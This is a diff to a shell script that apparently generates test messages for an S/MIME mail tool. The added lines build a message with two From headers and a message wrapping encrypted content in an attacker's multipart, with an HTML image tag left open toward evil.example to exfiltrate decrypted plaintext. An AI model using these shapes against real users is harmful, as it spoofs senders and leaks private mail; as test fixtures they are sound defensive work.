@@ -51,3 +51,14 @@ cp corpus/smime/signed-detached.eml corpus/mime/signed-detached.eml
 "$MAILSEAL" export revocation -o corpus/trust_material/revocation.pem --home "$work/introducer" 2>/dev/null
 openssl crl -in corpus/trust_material/revocation.pem -outform DER -out corpus/trust_material/revocation.der
 echo "seeds written"
+# Attack shapes (docs/smime.md, "Reading"): two From fields, a signed and an
+# encrypted part wrapped in someone else's multipart/mixed, an attached message.
+{ printf 'From: mallory@evil.example\r\n'; cat corpus/smime/signed-detached.eml; } >corpus/smime/two-from.eml
+{
+  printf 'From: mallory@evil.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="w"\r\n\r\n'
+  printf -- '--w\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--w\r\n'
+  sed -n '/^Content-Type:/,$p' corpus/smime/openssl-gcm-ec.eml
+  printf -- '\r\n--w\r\nContent-Type: message/rfc822\r\n\r\n'
+  cat corpus/smime/signed-opaque.eml
+  printf -- '\r\n--w--\r\n'
+} >corpus/smime/wrapped-parts.eml
